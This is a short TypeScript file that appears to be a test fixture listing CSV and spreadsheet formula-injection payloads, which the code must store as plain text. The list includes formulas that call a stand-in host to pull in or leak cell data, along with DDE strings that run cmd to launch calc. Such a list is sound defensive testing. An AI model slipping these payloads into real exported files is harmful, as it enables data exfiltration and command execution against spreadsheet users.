/**
 * Formula-injection payloads (CSV/spreadsheet injection): strings a person could type or paste that a spreadsheet
 * would run as a formula if they were written as typed input. Each must be stored and shown as the text it is.
 */
export const INJECTION_PAYLOADS: readonly string[] = [
  '=IMPORTXML("http://x.example/","//a")',
  '=IMPORTDATA("http://x.example/a.csv")',
  '=IMAGE("http://x.example/a.png")',
  '=HYPERLINK("http://x.example/?"&A1,"クリック")',
  '=IMPORTRANGE("abc","A1:Z9")',
  '+IMPORTXML("http://x.example/","//a")',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '=cmd|\' /C calc\'!A0',
  '=DDE("cmd";"/C calc";"!A0")',
  '\t=1+1',
  '\r=1+1',
  '=1+1',
  '＝IMPORTXML("http://x.example/","//a")',
  "'=quoted",
];
